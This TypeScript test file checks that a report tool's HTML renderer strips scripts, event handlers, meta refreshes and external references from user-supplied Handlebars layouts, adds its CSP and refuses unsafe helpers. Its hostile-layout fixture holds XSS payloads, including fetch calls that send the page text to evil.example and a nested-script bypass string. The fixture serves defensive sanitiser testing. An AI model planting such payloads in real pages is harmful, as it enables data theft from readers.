/**
 * 4. The HTML twin's protection does not depend on the template: a layout override without the CSP and with a
 * script, handlers, a meta refresh and external references renders to HTML that has our CSP first in <head>
 * and none of them; block parameters named `svg` and `{{log}}` are refused (BP_TEMPLATE_UNSAFE), and a
 * template can no longer write to stdout (which would break `--json`).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { BoardpackError } from '../../src/core/errors.js';
import { BUNDLED_TEMPLATES_DIR, buildReportModel, renderHtml } from '../../src/report/index.js';
import { CSP_META, sanitizeHtml } from '../../src/report/html-safety.js';
import { fixtureAssessment, fixtureConfig, fixtureMeta } from '../report/fixture.js';

const model = buildReportModel(fixtureConfig(), fixtureAssessment(), fixtureMeta());

function templates(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'bp-tpl-'));
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return dir;
}

function codes(f: () => unknown): string[] {
  try { f(); } catch (e) { if (e instanceof BoardpackError) return e.problems.map((p) => p.code); throw e; }
  return [];
}

const HOSTILE_LAYOUT = `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/a.css); body { background: url('https://evil.example/p.png') }</style>
</head><body onload="fetch('https://evil.example/?'+document.body.innerText)">
<script>fetch('https://evil.example/?'+document.body.innerText)</script>
<SCRIPT src="https://evil.example/s.js"></SCRIPT><scr<script>x</script>ipt>alert(1)</script>
<img src="https://evil.example/t.png" onerror="alert(1)"><a href="javascript:alert(1)">x</a><a href="#main">ok</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/"><button formaction="https://evil.example/">b</button></form>
<svg><image xlink:href="https://evil.example/i.png"/></svg>
<div style="background:url(https://evil.example/d.png)">{{meta.partnership}}</div></body></html>`;

describe('the final HTML is made safe whatever the templates', () => {
  it('a hostile layout renders with our CSP first and no script, handler, refresh or external reference', () => {
    const html = renderHtml(model, { templatesDir: templates({ 'layout.hbs': HOSTILE_LAYOUT }) });
    const head = html.slice(html.indexOf('<head>'), html.indexOf('</head>'));
    expect(head.indexOf(CSP_META)).toBeGreaterThan(0);
    expect(head.match(/http-equiv/gi)).toHaveLength(1);
    expect(html).not.toMatch(/<script|<iframe|<object|<base|<link|<form|<button/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/evil\.example|javascript:/i);
    expect(html).not.toMatch(/@import/i);
    expect(html).toContain('<a href="#main">ok</a>');
    expect(html).toContain(model.meta.partnership);
  });

  it('leaves the bundled templates\' HTML as it is (sanitising it again changes no byte)', () => {
    const html = renderHtml(model);
    expect(sanitizeHtml(html)).toBe(html);
    expect(html.match(/Content-Security-Policy/g)).toHaveLength(1);
  });

  it('refuses a block parameter named svg, which would print data unescaped', () => {
    const cover = readFileSync(path.join(BUNDLED_TEMPLATES_DIR, 'cover.hbs'), 'utf8');
    const dir = templates({ 'cover.hbs': `${cover}{{#with meta.partnership as |svg|}}{{{svg}}}{{/with}}` });
    expect(codes(() => renderHtml(model, { templatesDir: dir }))).toContain('BP_TEMPLATE_UNSAFE');
  });

  it('refuses {{log}} and never writes to stdout', () => {
    const cover = readFileSync(path.join(BUNDLED_TEMPLATES_DIR, 'cover.hbs'), 'utf8');
    const written: string[] = [];
    const write = process.stdout.write.bind(process.stdout);
    const log = console.log;
    process.stdout.write = ((s: string) => { written.push(String(s)); return true; }) as typeof process.stdout.write;
    console.log = (...a: unknown[]) => { written.push(a.join(' ')); };
    try {
      expect(codes(() => renderHtml(model, { templatesDir: templates({ 'cover.hbs': `${cover}{{log meta.partnership level="error"}}` }) }))).toContain('BP_TEMPLATE_UNSAFE');
      expect(codes(() => renderHtml(model, { templatesDir: templates({ 'cover.hbs': `${cover}{{#log "x"}}{{/log}}` }) }))).toContain('BP_TEMPLATE_UNSAFE');
    } finally {
      process.stdout.write = write;
      console.log = log;
    }
    expect(written.join('')).not.toContain(model.meta.partnership);
  });
});
